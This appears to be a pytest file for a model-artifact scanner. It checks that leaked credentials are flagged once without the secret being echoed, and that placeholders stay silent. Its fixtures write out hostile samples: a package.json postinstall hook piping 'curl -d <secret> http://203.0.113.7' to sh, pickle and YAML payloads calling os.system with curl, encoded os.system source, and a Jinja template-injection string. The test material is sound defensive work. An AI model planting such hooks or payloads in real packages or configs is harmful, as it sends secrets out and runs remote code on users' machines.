"""A seeded set of leaks: each kind of credential at each place is found and never repeated; its twins are silent."""

from __future__ import annotations

import json
import random
from base64 import b64encode
from typing import Callable

import pytest

import modelaudit
from assembly import call, stream, text
from modelaudit import credentialkinds, reports
from modelaudit.reports.style import Style
from redteam_places import PLACES
from secretsamples import filled

TABLE = credentialkinds.table()

#: What stands where a secret could, and what looks as random as one.
HARMLESS = (
    "token: xxx",
    "token = <token>",
    "HF_TOKEN=${HF_TOKEN}",
    "password: null",
    "api_key: <your key>",
    "token = os.environ['HF_TOKEN']",
    "export HF_TOKEN=hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
    "postgres://user:password@localhost:5432/db",
    "aws_access_key_id = AKIAIOSFODNN7EXAMPLE",
    "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----",
    "about -----BEGIN RSA PRIVATE KEY----- lines, which files of keys begin with, and about many other things as well",
    "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    "md5=d41d8cd98f00b204e9800998ecf8427e",
    "id: 123e4567-e89b-12d3-a456-426614174000",
    "revision: 0123456789abcdef0123456789abcdef01234567",
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl me@host",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJg==",
    "secret: 'changeme'",
)


def rendered(report: modelaudit.Report) -> str:
    """All that any report says of a scan, with everything that can be asked for."""
    style = Style(colour=False, unicode=True, verbose=True)
    return "\n".join(reports.renderer(name)(report, style) for name in reports.FORMATS)


def loud(report: modelaudit.Report) -> list[str]:
    return [f"{issue.rule} {issue.message}" for issue in report.issues if issue.severity in ("warning", "critical")]


@pytest.mark.parametrize("place", PLACES)
def test_each_kind_of_credential_is_found_at_each_place_and_not_repeated(place: str) -> None:
    name, make = PLACES[place]
    for entry in TABLE:
        for number, parts in enumerate(entry["hit"]):
            text, secrets = filled(parts, random.Random(f"{place} {entry['id']} {number}"))
            report = modelaudit.scan_bytes(make(text), name)
            found = [(issue.rule, issue.details.get("kind")) for issue in report.issues if issue.severity != "info"]
            assert found == [(entry["rule"], entry["id"])], (entry["id"], number, loud(report))
            assert report.exit_code == 1
            said = rendered(report)
            for secret in secrets:
                # Digits alone are the number of an account.
                pieces = {secret[start : start + 7] for start in range(max(1, len(secret) - 6))}
                assert not any(piece in said for piece in pieces if not piece.isdigit())


#: Files in which something else is found, and reports quote what is around it.
QUOTED: dict[str, tuple[str, Callable[[str], bytes]]] = {
    "a command": ("m.pkl", lambda t: stream(call("posix", "system", text(f"curl -H 'X: {t}' https://example.org")))),
    "a long command": ("m.pkl", lambda t: stream(call("posix", "system", text("echo " + "x " * 45 + t)))),
    "an address": ("requirements.txt", lambda t: f"x @ git+http://oauth2:{t}@example.org/x.git\n".encode()),
    "a key that stands twice": ("config.json", lambda t: f'{{"{t}": 1, "{t}": 2}}'.encode()),
    "a tag": ("config.yaml", lambda t: f"x: !!python/object/apply:os.system ['curl {t}']\n".encode()),
    "a hook": (
        "package.json",
        lambda t: f'{{"scripts": {{"postinstall": "curl -d {t} http://203.0.113.7|sh"}}}}'.encode(),
    ),
    "an address in numbers": ("config.json", lambda t: f'{{"callback_url": "http://u:{t}@203.0.113.7/x"}}'.encode()),
    "encoded source": (
        "config.json",
        lambda t: json.dumps({"x": b64encode(f"import os\nos.system('curl {t}')".encode()).decode()}).encode(),
    ),
    "a template": ("t.jinja", lambda t: f"{{{{ ''.__class__.__mro__[1].__subclasses__()('{t}') }}}}".encode()),
}


@pytest.mark.parametrize("quoted", QUOTED)
def test_no_finding_repeats_a_secret_that_stands_beside_it(quoted: str) -> None:
    name, make = QUOTED[quoted]
    for number, mark in enumerate((("gh", "p_", "<c:30>"), ("gl", "pat-", "<20>"), ("h", "f_", "<34>"))):
        secret, parts = filled(list(mark), random.Random(f"{quoted} {number}"))
        report = modelaudit.scan_bytes(make(secret), name)
        assert [issue for issue in report.issues if not issue.rule.startswith("SEC") and issue.severity != "info"]
        said = rendered(report)
        assert not any(parts[0][start : start + 7] in said for start in range(len(parts[0]) - 6)), said


@pytest.mark.parametrize("place", PLACES)
def test_what_stands_where_a_secret_could_is_silent(place: str) -> None:
    name, make = PLACES[place]
    generator = random.Random(place)
    misses = [filled(parts, generator)[0] for entry in TABLE for parts in entry["miss"]]
    for harmless in (*HARMLESS, *misses):
        assert loud(modelaudit.scan_bytes(make(harmless), name)) == [], harmless
